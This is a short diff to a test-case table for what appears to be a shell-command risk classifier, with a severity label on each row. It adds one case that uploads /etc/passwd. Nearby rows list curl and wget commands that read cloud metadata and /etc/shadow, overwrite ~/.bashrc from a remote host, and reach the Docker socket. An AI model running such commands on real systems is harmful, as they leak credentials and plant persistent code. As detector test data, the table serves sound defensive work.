@@ -33,6 +33,7 @@ CASES = table(
     high curl http://169.254.169.254/latest/meta-data/
     high curl http://0xA9FEA9FE/latest/
     high curl file:///etc/shadow
+    critical curl -T x file:///etc/passwd
     high? curl -o ~/.bashrc https://x.example/a
     high curl --unix-socket /var/run/docker.sock http://x/y
     high? wget --use-askpass=/tmp/x https://x.example
